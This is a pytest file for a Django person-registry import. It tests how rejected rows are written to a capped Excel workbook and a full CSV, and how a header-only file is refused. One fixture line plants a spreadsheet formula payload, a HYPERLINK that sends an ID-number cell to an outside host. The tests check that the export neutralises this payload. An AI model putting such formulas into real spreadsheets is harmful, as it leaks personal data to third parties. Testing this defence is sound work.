"""The rejected rows of a very bad file (issue 15 item 11): the workbook stops at Excel's sheet limit
with a line saying so, a CSV next to it has every rejected row (neutralised like every file we write),
and a file with a header and no rows says so instead of importing nothing silently."""

from __future__ import annotations

import csv
import io

import pytest
import test_registry_import
from openpyxl import load_workbook
from test_registry_import import ledger_rows, write_csv

from canlian.core.registry import importing
from canlian.core.registry.importing import REJECTED_CSV, persons_import
from canlian.core.registry.models import Person
from canlian.platform.errors import ValidationFailed

places = test_registry_import.places  # the fixture: more villages of 东营区


def bad_ledger(tmp_path, n_bad: int):
    rows, _bad = ledger_rows(20)
    for row in rows[:n_bad]:
        row[4] = row[4][:-1] + ("0" if row[4][-1] != "0" else "1")  # a wrong check digit
    rows[0][12] = '=HYPERLINK("http://x/?"&E2,"点击")'  # a formula payload in an address
    return write_csv(tmp_path / "bad.csv", rows)


def test_the_workbook_stops_at_its_limit_and_the_csv_has_every_rejected_row(
    places, county_admin, tmp_path, monkeypatch
):
    monkeypatch.setattr(importing, "WORKBOOK_MAX_ROWS", 3)
    result = persons_import(actor=county_admin, path=bad_ledger(tmp_path, 5))
    assert result.rejected == 5 and result.new == 15
    rows = list(load_workbook(result.rejected_path).worksheets[0].iter_rows(values_only=True))
    assert len(rows) == 1 + 3 + 1  # header, the first three, the note
    assert [r[0] for r in rows[1:4]] == [2, 3, 4]
    assert "3" in rows[-1][0] and "5" in rows[-1][0] and "CSV" in rows[-1][0]
    with open(tmp_path / REJECTED_CSV, encoding="utf-8-sig", newline="") as f:
        table = list(csv.reader(f))
    assert table[0][0] == rows[0][0] and [r[0] for r in table[1:]] == ["2", "3", "4", "5", "6"]
    assert table[1][1 + 12].startswith("'=")  # the payload is text, not a formula
    assert table[1][1 + 4].startswith("\t")  # the ID number stays text in Excel


def test_below_the_limit_the_workbook_has_every_row_and_no_note(places, county_admin, tmp_path):
    result = persons_import(actor=county_admin, path=bad_ledger(tmp_path, 2))
    rows = list(load_workbook(result.rejected_path).worksheets[0].iter_rows(values_only=True))
    assert len(rows) == 3 and rows[-1][0] == 3


def test_a_file_with_only_a_header_says_no_rows(places, county_admin, tmp_path):
    path = write_csv(tmp_path / "empty.csv", [])
    with pytest.raises(ValidationFailed) as caught:
        persons_import(actor=county_admin, path=path)
    assert caught.value.code == "no_rows" and caught.value.field == "file"
    assert not Person.objects.exists()


def test_the_job_page_offers_the_csv_and_says_when_the_workbook_was_cut(
    places, county_admin, client, tmp_path, monkeypatch, settings
):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from canlian.core.jobs.actions import job_submit
    from canlian.core.jobs.runner import run_job

    settings.MEDIA_ROOT = tmp_path / "media"
    monkeypatch.setattr(importing, "WORKBOOK_MAX_ROWS", 2)
    data = bad_ledger(tmp_path, 4).read_bytes()
    job = job_submit(
        actor=county_admin,
        kind="persons.import",
        region_code="370502",
        enqueue=False,
        upload=SimpleUploadedFile("bad.csv", data),
    )
    run_job(job.pk)
    job.refresh_from_db()
    assert job.result["rejected"] == 4 and job.result["rejected_capped"] is True
    client.force_login(county_admin)
    page = client.get(f"/registry/persons/import/jobs/{job.pk}/").content.decode()
    assert 'data-testid="rejected-csv"' in page and 'data-testid="rejected-capped"' in page
    response = client.get(f"/registry/persons/import/jobs/{job.pk}/rejected.csv")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    assert len(list(csv.reader(io.StringIO(body)))) == 5
